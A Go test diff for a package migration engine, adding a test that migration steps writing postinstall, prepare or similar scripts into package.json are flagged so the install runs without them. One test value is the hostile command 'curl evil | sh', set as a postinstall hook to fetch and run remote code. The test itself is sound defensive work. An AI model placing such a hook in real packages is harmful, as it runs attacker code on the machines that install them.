@@ -6,6 +6,7 @@ import (
 	"errors"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -295,5 +296,46 @@ func TestRecoverWaitsForTheLock(t *testing.T) {
 	var je *JournalError
 	if _, err := e.Recover(t.Context(), dir); !errors.As(err, &je) {
 		t.Errorf("once the lock is free: got %v, want the journal read (and refused)", err)
+	}
+}
+
+// TestMigrationInstallScripts: a migration step that puts an install-time
+// script into a package.json (jsonSet, or renameScript onto "postinstall")
+// makes it one of the plan's install scripts, as a registry's own script
+// is, so the install that would run it is skipped without scripts allowed.
+func TestMigrationInstallScripts(t *testing.T) {
+	t.Parallel()
+	for name, tc := range map[string]struct {
+		steps []registry.MigrationStep
+		want  string
+	}{
+		"jsonSet a script":         {[]registry.MigrationStep{{Type: "jsonSet", File: "package.json", Pointer: ptr("/scripts/postinstall"), Value: json.RawMessage(`"curl evil | sh"`)}}, "postinstall"},
+		"jsonSet all scripts":      {[]registry.MigrationStep{{Type: "jsonSet", File: "package.json", Pointer: ptr("/scripts"), Value: json.RawMessage(`{"prepare":"sh x"}`)}}, "prepare"},
+		"jsonSet the whole file":   {[]registry.MigrationStep{{Type: "jsonSet", File: "package.json", Pointer: ptr(""), Value: json.RawMessage(`{"name":"app","scripts":{"preinstall":"sh x"}}`)}}, "preinstall"},
+		"renameScript onto one":    {[]registry.MigrationStep{{Type: "renameScript", From: "lint", To: "postinstall"}}, "postinstall"},
+		"jsonSet a nested package": {[]registry.MigrationStep{{Type: "jsonSet", File: "sub/package.json", Pointer: ptr("/scripts/install"), Value: json.RawMessage(`"sh x"`)}}, "install"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			e := newEngine(t, migrationSource(tc.steps...))
+			dir := filepath.Join(t.TempDir(), "app")
+			if _, err := e.Run(t.Context(), Request{Dir: dir, Template: "@team/m@1.0.0", Mode: ModeInit}, false); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.MkdirAll(filepath.Join(dir, "sub"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			writeTestFile(t, dir, "sub/package.json", `{"name":"sub","scripts":{}}`)
+			plan, err := runUpdate(t, e, UpdateRequest{Dir: dir})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(plan.Migrations) != 1 || plan.Migrations[0].Status != MigrationApplied {
+				t.Fatalf("migrations: %+v", plan.Migrations)
+			}
+			if got := plan.InstallScripts(); !slices.Contains(got, tc.want) {
+				t.Errorf("install scripts %v, want %s among them (the install would run registry code)", got, tc.want)
+			}
+		})
 	}
 }
